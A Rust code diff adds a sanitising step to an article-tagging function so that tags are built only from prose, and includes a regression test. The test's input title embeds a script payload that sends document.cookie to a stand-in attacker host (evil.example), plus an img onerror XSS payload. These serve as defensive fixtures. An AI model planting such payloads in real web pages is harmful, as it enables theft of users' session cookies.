@@ -2,6 +2,7 @@
 
 use crate::gazetteer::{self, EntityKind, Mention};
 use crate::keyphrase;
+use crate::plain::prose;
 use crate::tokenize::tokens;
 use model::{Tag, TagKind, TagName};
 use std::collections::HashMap;
@@ -36,13 +37,20 @@ pub const KEYPHRASE_POOL: usize = 10;
 /// Tags an article. The result is sorted best first within each kind:
 /// relationships, then entities, then key phrases.
 pub fn tag_article(title: &str, text: &str, opts: &TagOptions) -> Vec<Tag> {
-    let ranked = keyphrase::rank_with(title, text, KEYPHRASE_POOL, &keyphrase::RankParams::default());
-    tag_article_ranked(title, text, opts, &ranked.topics)
+    let (title, text) = (prose(title), prose(text));
+    let ranked = keyphrase::rank_with(&title, &text, KEYPHRASE_POOL, &keyphrase::RankParams::default());
+    tags_of_prose(&title, &text, opts, &ranked.topics)
 }
 
 /// `tag_article`, given the article's topic phrases as `keyphrase::rank_with`
 /// ranked them (`Ranked::topics`), for a caller that needs the ranking too.
 pub fn tag_article_ranked(title: &str, text: &str, opts: &TagOptions, phrases: &[keyphrase::KeyPhrase]) -> Vec<Tag> {
+    tags_of_prose(&prose(title), &prose(text), opts, phrases)
+}
+
+/// `tag_article_ranked` on title and text that are already prose: no tag
+/// can come from markup, a URL or code.
+fn tags_of_prose(title: &str, text: &str, opts: &TagOptions, phrases: &[keyphrase::KeyPhrase]) -> Vec<Tag> {
     let g = gazetteer::builtin();
     let mut entity_score: HashMap<usize, f32> = HashMap::new();
     // Unordered pair -> (count, written orders with their counts)
@@ -194,5 +202,22 @@ mod tests {
             &TagOptions::default(),
         );
         assert_eq!(names(&tags, TagKind::Relationship), vec!["CentralAsia-US"]);
+    }
+
+    #[test]
+    fn issue_14_no_tag_is_built_from_markup_urls_or_code() {
+        let title =
+            "<script>fetch('https://evil.example/steal?c='+document.cookie)</script> China and Kazakhstan sign deal";
+        let text = "China and Kazakhstan signed a trade deal. <img src=x onerror=alert(1)> The China-Kazakhstan \
+                    trade deal covers grain. See https://example.com/china-kazakhstan for more. \
+                    window.location.href = 'http://x'; China-Kazakhstan ties grow.";
+        let tags = tag_article(title, text, &TagOptions::default());
+        for t in &tags {
+            let n = t.name.as_str().to_lowercase();
+            for bad in ["script", "fetch", "http", "cookie", "evil", "onerror", "alert", "window", "example", "img"] {
+                assert!(!n.contains(bad), "{} came from markup or code", t.name);
+            }
+        }
+        assert!(tags.iter().any(|t| t.name.as_str() == "China-Kazakhstan"), "{tags:?}");
     }
 }
